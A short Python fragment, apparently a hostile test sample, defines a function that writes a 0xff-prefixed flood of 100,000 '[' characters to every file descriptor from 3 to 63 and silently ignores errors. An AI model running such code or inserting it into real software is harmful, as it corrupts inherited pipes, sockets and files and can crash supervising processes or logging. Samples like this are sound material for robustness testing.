import os
def f(x):
    for descriptor in range(3, 64):
        try: os.write(descriptor, b"\xff\xff\xff\xff" + b"[" * 100_000)
        except OSError: pass
